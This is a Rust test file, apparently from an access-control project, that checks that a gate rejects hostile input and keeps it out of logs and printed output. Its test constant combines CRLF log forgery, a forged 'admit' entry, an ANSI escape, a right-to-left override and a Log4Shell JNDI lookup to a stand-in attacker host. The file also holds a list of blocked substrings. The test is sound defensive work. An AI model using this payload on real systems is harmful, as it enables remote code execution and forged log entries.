//! What an attacker writes does not get into a log. That nothing of a holder does is
//! `no_pii.rs`, with canaries.

use clearance_core::code;
use clearance_tests::scene::NOW;
use clearance_tests::{Forgery, Person, START, World};

/// CWE-117: forged entries in a log, through what is logged; CVE-2021-44228 (Log4Shell): worse.
#[test]
fn no_code_writes_into_the_log() {
    const LINE: &str =
        "\r\n{\"decision\":\"admit\"}\x1b[2J${jndi:ldap://attacker.example/a}\u{202e}";
    let world = World::new();
    let gate = world.gate();
    let honest = Forgery::of(&world, Person::Parent, START);
    let cut = honest.text()[..400].to_owned();
    let texts = [
        LINE.to_owned(),
        format!("C1:{LINE}"),
        format!("C2:{LINE}"),
        format!("{cut}{LINE}"),
        // As long as a code.
        format!("C1:{:0<462}", LINE.replace('\u{202e}', "")),
        // Under the seal.
        code::encode(&honest.seal(&[LINE.as_bytes(), &[0; 244]].concat()[..244])),
    ];
    for text in texts {
        let decision = gate.check(&text, NOW);
        assert!(!decision.is_admit());
        let json = serde_json::to_string(&decision).unwrap();
        for shown in [decision.to_string(), json, format!("{decision:?}")] {
            for part in ["jndi", "attacker", "\"admit\"", "\u{202e}", "\x1b"] {
                assert!(!shown.contains(part), "{part:?} in {shown:?}");
            }
            assert!(!shown.contains(char::is_control), "{shown:?}");
        }
    }
}
